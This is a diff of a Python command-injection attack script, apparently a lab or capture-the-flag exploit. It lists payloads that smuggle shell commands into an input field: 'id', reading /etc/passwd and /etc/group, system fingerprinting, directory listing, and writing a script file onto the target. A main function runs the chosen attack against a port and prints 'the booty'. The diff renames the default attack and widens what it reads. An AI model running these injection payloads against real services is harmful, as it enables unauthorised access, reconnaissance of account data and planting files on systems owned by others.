@@ -16,7 +16,7 @@ from urllib.parse import quote
 
 COMMANDS: dict[str, str] = {
     "who-am-i": "x; id #",
-    "passwords": "x; cat /etc/passwd #",
+    "accounts": "x; cat /etc/passwd /etc/group #",
     "which-system": "x; uname -a; id; hostname #",
     "look-around": "x; ls -la / /etc /home #",
     "drop-a-script": "x; printf '#!/bin/sh\\nid\\n' > visitors/door.sh;"
@@ -78,7 +78,7 @@ def main() -> int:
     """Attack as the command line says, and print the booty."""
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
     parser.add_argument("--port", type=int, required=True)
-    parser.add_argument("--attack", choices=ATTACKS, default="passwords")
+    parser.add_argument("--attack", choices=ATTACKS, default="accounts")
     args = parser.parse_args()
     print(attack(args.port, args.attack))
     return 0
